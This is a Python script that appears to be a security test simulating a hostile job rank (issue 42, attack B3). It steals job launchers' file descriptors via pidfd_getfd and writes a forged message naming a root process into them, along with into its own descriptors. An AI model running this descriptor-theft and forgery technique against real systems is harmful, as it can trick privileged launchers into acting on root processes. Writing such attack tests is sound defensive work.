"""What a hostile rank does to its launcher (issue 42, attack B3), run as a job's rank: it writes a
forged answer, `{"pid": T}` (T: argv[1], a root process), into every descriptor it holds beyond 0-2,
and into every descriptor of every job launcher it can take (`pidfd_getfd`, which a dumpable launcher
of its user allows). Prints, as one JSON line, where the forgery went."""

import ctypes
import json
import os
import sys

SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438
LAUNCHER = b"trainmedic.recovery.executor.forkserver"

forged = (json.dumps({"pid": int(sys.argv[1])}) + "\n").encode()
libc = ctypes.CDLL(None, use_errno=True)
wrote = []


def forge(fd: int, where: str) -> None:
    try:
        os.write(fd, forged)
    except OSError:
        return
    wrote.append(where)


for name in os.listdir("/proc/self/fd"):
    if int(name) > 2:
        forge(int(name), f"own fd {name}")
for entry in os.listdir("/proc"):
    if not entry.isdigit():
        continue
    try:
        with open(f"/proc/{entry}/cmdline", "rb") as handle:
            if LAUNCHER not in handle.read():
                continue
    except OSError:
        continue
    pidfd = libc.syscall(SYS_PIDFD_OPEN, int(entry), 0)
    if pidfd < 0:
        continue
    for target in range(16):
        taken = libc.syscall(SYS_PIDFD_GETFD, pidfd, target, 0)
        if taken >= 0:
            forge(taken, f"launcher {entry} fd {target}")
print(json.dumps({"wrote": wrote}), flush=True)
